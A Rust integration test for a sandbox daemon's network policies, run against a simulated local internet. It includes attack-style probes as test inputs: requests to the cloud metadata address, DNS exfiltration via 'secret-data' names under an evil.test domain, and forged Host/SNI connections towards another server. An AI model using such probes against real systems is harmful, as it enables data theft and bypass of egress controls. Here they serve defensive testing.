//! Network policies end to end, against a small "internet" this test builds on the machine:
//! a network namespace holding TEST-NET-3 addresses (203.0.113.0/24, never routed on the
//! internet) with HTTP, TCP, UDP and DNS services, and a metadata-address canary
//! (169.254.169.254) that exists only inside that namespace. No packet leaves the machine.

mod common;

use std::io::{BufRead, BufReader};
use std::process::{Child, Command, Stdio};
use std::time::Duration;

use common::{rand_token, run_bounded, sandbox_body, Daemon};
use serde_json::{json, Value};

const NET: &str = "203.0.113.10";
/// Another server of the test internet, which no allowed name resolves to.
const EVIL: &str = "203.0.113.20";

/// The test's own namespace, link, routes and servers; removed on drop whatever happens.
struct Internet {
    ns: String,
    veth: String,
    log: std::path::PathBuf,
    servers: Vec<Child>,
    _dir: tempfile::TempDir,
}

fn sh(args: &[&str]) -> bool {
    run_bounded(Command::new(args[0]).args(&args[1..]), None, Duration::from_secs(10)).code() == Some(0)
}

impl Internet {
    fn start() -> Internet {
        let tag = rand_token(6);
        let dir = common::tempdir("gbtest-inet-");
        let mut me = Internet {
            ns: format!("gbnt-{tag}"),
            veth: format!("gbnt{tag}"),
            log: dir.path().join("inet.log"),
            servers: Vec::new(),
            _dir: dir,
        };
        let (ns, veth) = (me.ns.clone(), me.veth.clone());
        let peer = format!("{veth}p");
        for cmd in [
            vec!["ip", "netns", "add", &ns],
            vec!["ip", "link", "add", &veth, "type", "veth", "peer", "name", &peer],
            vec!["ip", "link", "set", &peer, "netns", &ns],
            vec!["ip", "addr", "add", "203.0.113.1/24", "dev", &veth],
            vec!["ip", "link", "set", &veth, "up"],
            vec!["ip", "netns", "exec", &ns, "ip", "link", "set", "lo", "up"],
            vec!["ip", "netns", "exec", &ns, "ip", "addr", "add", "203.0.113.10/24", "dev", &peer],
            vec!["ip", "netns", "exec", &ns, "ip", "addr", "add", "169.254.169.254/32", "dev", &peer],
            vec!["ip", "netns", "exec", &ns, "ip", "addr", "add", "203.0.113.20/24", "dev", &peer],
            vec!["ip", "netns", "exec", &ns, "ip", "link", "set", &peer, "up"],
            vec!["ip", "netns", "exec", &ns, "ip", "route", "add", "default", "via", "203.0.113.1"],
            // The canary metadata address lives in our namespace, so a leak would land there.
            vec!["ip", "route", "add", "169.254.169.254/32", "via", NET, "dev", &veth],
        ] {
            assert!(sh(&cmd), "set-up step failed: {cmd:?}");
        }
        let fix = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/netfix.py");
        let log = me.log.display().to_string();
        let (cert, key) = (me._dir.path().join("cert.pem"), me._dir.path().join("key.pem"));
        let (cert, key) = (cert.display().to_string(), key.display().to_string());
        assert!(
            sh(&[
                "openssl",
                "req",
                "-x509",
                "-newkey",
                "rsa:2048",
                "-nodes",
                "-subj",
                "/CN=api.good.test",
                "-days",
                "1",
                "-keyout",
                &key,
                "-out",
                &cert,
            ]),
            "test certificate"
        );
        for (addr, logf) in
            [(NET, log.clone()), ("169.254.169.254", format!("{log}.meta")), (EVIL, format!("{log}.evil"))]
        {
            let mut c = Command::new("ip")
                .args(["netns", "exec", &ns, "python3", fix, addr, &logf, &cert, &key])
                .stdin(Stdio::piped())
                .stdout(Stdio::piped())
                .spawn()
                .expect("fixture server");
            let mut line = String::new();
            BufReader::new(c.stdout.take().expect("stdout")).read_line(&mut line).expect("ready line");
            assert_eq!(line.trim(), "ready", "fixture server did not start");
            me.servers.push(c);
        }
        me
    }

    fn events(&self) -> Vec<Value> {
        std::fs::read_to_string(&self.log)
            .unwrap_or_default()
            .lines()
            .filter_map(|l| serde_json::from_str(l).ok())
            .collect()
    }

    fn evil_events(&self) -> String {
        std::fs::read_to_string(format!("{}.evil", self.log.display())).unwrap_or_default()
    }

    fn meta_events(&self) -> String {
        std::fs::read_to_string(format!("{}.meta", self.log.display())).unwrap_or_default()
    }
}

impl Drop for Internet {
    fn drop(&mut self) {
        for c in &mut self.servers {
            drop(c.stdin.take());
            let _ = c.kill();
            let _ = c.wait();
        }
        let _ = sh(&["ip", "route", "del", "169.254.169.254/32", "via", NET, "dev", &self.veth]);
        let _ = sh(&["ip", "link", "del", &self.veth]);
        let _ = sh(&["ip", "netns", "del", &self.ns]);
    }
}

/// Runs Python in the sandbox and returns its stdout (trimmed).
fn py(d: &Daemon, id: &str, code: &str) -> String {
    let r = d.exec(id, json!({ "cmd": ["python3", "-c", code], "timeout_ms": 15000 }));
    assert_eq!(r["timed_out"], false, "{r}");
    r["stdout"].as_str().unwrap_or_default().trim().to_string()
}

const HTTP: &str = "import urllib.request,sys\ntry:\n print(urllib.request.urlopen(sys.argv[1] if len(sys.argv)>1 else 'http://203.0.113.10:8080/', timeout=3).status)\nexcept Exception as e:\n print('blocked', type(e).__name__)";

fn http(d: &Daemon, id: &str, url: &str) -> String {
    py(d, id, &HTTP.replace("sys.argv[1] if len(sys.argv)>1 else 'http://203.0.113.10:8080/'", &format!("{url:?}")))
}

fn resolve(d: &Daemon, id: &str, name: &str) -> String {
    py(
        d,
        id,
        &format!(
            "import socket\ntry:\n print(socket.gethostbyname({name:?}))\nexcept Exception as e:\n print('nxdomain', type(e).__name__)"
        ),
    )
}

fn udp(d: &Daemon, id: &str, msg: &str) -> String {
    py(
        d,
        id,
        &format!(
            "import socket\ns=socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ntry:\n s.sendto(b{msg:?}, ('203.0.113.10', 9999)); print('sent')\nexcept Exception as e:\n print('blocked', type(e).__name__)"
        ),
    )
}

#[test]
fn policies_are_enforced_on_the_host_side() {
    require_root!();
    let inet = Internet::start();
    // Prove the fixture answers from the host (so a block below is the policy's doing).
    let out = run_bounded(
        Command::new("python3").args([
            "-c",
            "import urllib.request; print(urllib.request.urlopen('http://169.254.169.254:8080/', timeout=3).status)",
        ]),
        None,
        Duration::from_secs(10),
    );
    assert_eq!(out.stdout_str().trim(), "200", "the metadata canary answers the host: {}", out.stderr_str());
    std::env::set_var("GLOVEBOX_DNS_UPSTREAM", format!("{NET}:53"));
    let d = Daemon::start();

    // deny-all (the default): nothing leaves, nothing resolves, the servers see nothing.
    let deny = d.create(sandbox_body(json!({})));
    let before = inet.events().len();
    assert!(http(&d, &deny, "http://203.0.113.10:8080/").starts_with("blocked"));
    assert!(udp(&d, &deny, "deny-all").contains("blocked"), "no route for UDP either");
    assert!(resolve(&d, &deny, "api.good.test").starts_with("nxdomain"));
    assert_eq!(inet.events().len(), before, "deny-all reached the test internet: {:?}", inet.events());

    // allow-all: public addresses and DNS work; metadata, the host and private ranges do not.
    let all = d.create(sandbox_body(json!({ "network": { "mode": "allow-all" } })));
    assert_eq!(http(&d, &all, "http://203.0.113.10:8080/"), "200");
    assert_eq!(resolve(&d, &all, "api.good.test"), NET, "names resolve through the host-side forwarder");
    assert!(resolve(&d, &all, "secret-data.evil.test").starts_with("nxdomain"));
    let meta_before = inet.meta_events();
    assert!(http(&d, &all, "http://169.254.169.254:8080/").starts_with("blocked"), "metadata is denied");
    assert_eq!(inet.meta_events(), meta_before, "the metadata canary saw a sandbox packet");
    let gw = py(
        &d,
        &all,
        "import subprocess; print(subprocess.run(['ip','route'],capture_output=True,text=True).stdout.split()[2])",
    );
    assert!(http(&d, &all, &format!("http://{gw}:7171/")).starts_with("blocked"), "the host itself is denied");

    // allow-list with a port: exactly that is reachable.
    let list = d.create(sandbox_body(json!({ "network": { "mode": "allow-list", "allow": [format!("{NET}:8080")] } })));
    assert_eq!(http(&d, &list, "http://203.0.113.10:8080/"), "200");
    assert!(http(&d, &list, "http://203.0.113.10:8081/").starts_with("blocked"), "other ports denied");
    let n_udp = inet.events().iter().filter(|e| e["kind"] == "udp").count();
    udp(&d, &list, "not-allowed");
    assert_eq!(inet.events().iter().filter(|e| e["kind"] == "udp").count(), n_udp, "UDP 9999 is not allowed");

    // deny wins over allow-all.
    let denied = d.create(sandbox_body(json!({ "network": { "mode": "allow-all", "deny": [format!("{NET}/32")] } })));
    assert!(http(&d, &denied, "http://203.0.113.10:8080/").starts_with("blocked"));

    // Live update: a connection opened before the switch to deny-all is closed after it.
    let hold = "import socket,time,sys\ns=socket.create_connection(('203.0.113.10',8081),timeout=5)\nf=s.makefile('rwb')\nf.write(b'first\\n');f.flush();print(f.readline().decode().strip(),flush=True)\ntime.sleep(3)\ntry:\n f.write(b'second\\n');f.flush();l=f.readline()\n print('after:'+(l.decode().strip() or 'closed'))\nexcept Exception as e:\n print('after:'+type(e).__name__)";
    let (st, bg) =
        d.post(&format!("/v1/sandboxes/{all}/exec"), &json!({ "cmd": ["python3", "-c", hold], "background": true }));
    assert_eq!(st, 202, "{bg}");
    let cid = bg["id"].as_u64().expect("command id");
    let first = common::poll(Duration::from_secs(10), Duration::from_millis(100), || {
        inet.events().iter().any(|e| e["kind"] == "hold" && e["line"] == "first").then_some(())
    });
    assert!(first.is_some(), "the held connection was opened");
    let (st, v) = d
        .req(reqwest::Method::PUT, &format!("/v1/sandboxes/{all}/network"))
        .json(&json!({ "mode": "deny-all" }))
        .send()
        .map(|r| {
            let s = r.status().as_u16();
            (s, r.json::<Value>().unwrap_or_default())
        })
        .expect("update");
    assert_eq!(st, 200, "{v}");
    assert_eq!(v["network"]["mode"], "deny-all");
    let (_, res) = d.get(&format!("/v1/sandboxes/{all}/commands/{cid}?wait=true"));
    let out = res["stdout"].as_str().unwrap_or_default();
    assert!(out.starts_with("ok"), "{res}");
    assert!(!out.contains("after:ok"), "the old connection kept working after deny-all: {out}");
    assert!(!inet.events().iter().any(|e| e["kind"] == "hold" && e["line"] == "second"), "a packet got through");
    assert!(http(&d, &all, "http://203.0.113.10:8080/").starts_with("blocked"), "new connections fail too");

    // Domain allow-list: the name works (HTTP by Host, HTTPS by SNI); other names do not
    // resolve and are never asked upstream; a forged Host/SNI towards another address fails.
    let dom =
        d.create(sandbox_body(json!({ "network": { "mode": "allow-list", "allow": ["api.good.test:8080,8443"] } })));
    assert_eq!(http(&d, &dom, "http://api.good.test:8080/"), "200");
    let tls = |host: &str, sni: &str| {
        py(&d, &dom, &format!(
            "import socket,ssl\nctx=ssl._create_unverified_context()\ntry:\n s=socket.create_connection(({host:?},8443),timeout=4)\n t=ctx.wrap_socket(s,server_hostname={sni:?})\n t.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n')\n print(t.recv(100).split(b'\\r\\n')[0].decode())\nexcept Exception as e:\n print('blocked', type(e).__name__)"
        ))
    };
    assert_eq!(tls("api.good.test", "api.good.test"), "HTTP/1.0 200 OK", "HTTPS by SNI");
    let secret = format!("secret-data-{}.evil.test", rand_token(8));
    assert!(resolve(&d, &dom, &secret).starts_with("nxdomain"));
    assert!(
        !inet.events().iter().any(|e| e["kind"] == "dns" && e["name"].as_str().unwrap_or_default().contains(&secret)),
        "a denied name reached the upstream resolver (DNS exfiltration)"
    );
    let forged = py(&d, &dom, &format!(
        "import socket\ntry:\n s=socket.create_connection(({EVIL:?},8080),timeout=4)\n s.sendall(b'GET / HTTP/1.1\\r\\nHost: api.good.test\\r\\n\\r\\n')\n print(s.recv(100) or b'closed')\nexcept Exception as e:\n print('blocked', type(e).__name__)"
    ));
    assert!(
        forged.contains("closed") || forged.starts_with("blocked"),
        "forged Host towards another address: {forged}"
    );
    assert!(tls(EVIL, "api.good.test").starts_with("blocked"), "forged SNI towards another address");
    assert!(inet.evil_events().is_empty(), "the other server saw a connection: {}", inet.evil_events());
    assert!(http(&d, &dom, "http://203.0.113.10:8081/").starts_with("blocked"), "ports outside the rule");
    let (st, log) = d.get(&format!("/v1/sandboxes/{dom}/egress"));
    assert_eq!(st, 200, "{log}");
    let entries = log["entries"].as_array().cloned().unwrap_or_default();
    let has = |kind: &str, name: &str, allowed: bool| {
        entries.iter().any(|e| {
            e["kind"] == kind && e["name"].as_str().unwrap_or_default().contains(name) && e["allowed"] == allowed
        })
    };
    assert!(has("dns", "api.good.test", true), "{log}");
    assert!(has("dns", &secret, false), "{log}");
    assert!(has("tcp", "api.good.test", true), "{log}");
    assert!(entries.iter().any(|e| e["kind"] == "tcp" && e["ip"] == EVIL && e["allowed"] == false), "{log}");

    // Bad policies are clear 400s.
    for bad in [
        json!({ "mode": "allow-list" }),
        json!({ "mode": "deny-all", "allow": ["203.0.113.0/24"] }),
        json!({ "mode": "allow-list", "allow": ["203.0.113.0/40"] }),
        json!({ "mode": "allow-list", "allow": ["203.0.113.10:0"] }),
        json!({ "mode": "sometimes" }),
    ] {
        let (st, e) = d.post("/v1/sandboxes", &json!({ "network": bad }));
        assert_eq!(st, 400, "{bad} -> {e}");
        assert!(!e["error"]["message"].as_str().unwrap_or_default().is_empty());
    }

    let pid = d.pid();
    d.shutdown_and_check_leaks();
    let links = run_bounded(Command::new("ip").args(["-o", "link"]), None, Duration::from_secs(5)).stdout_str();
    let left: Vec<&str> = links
        .lines()
        .filter_map(|l| l.split(": ").nth(1))
        .filter(|n| {
            n.starts_with("gb") && n[2..].split('@').next().is_some_and(|d| d.chars().all(|c| c.is_ascii_digit()))
        })
        .collect();
    assert!(left.is_empty(), "sandbox links left behind: {left:?}");
    let tables = run_bounded(Command::new("nft").args(["list", "tables"]), None, Duration::from_secs(5)).stdout_str();
    assert!(!tables.contains(&format!("glovebox_{pid}")), "the daemon's table is left: {tables}");
}
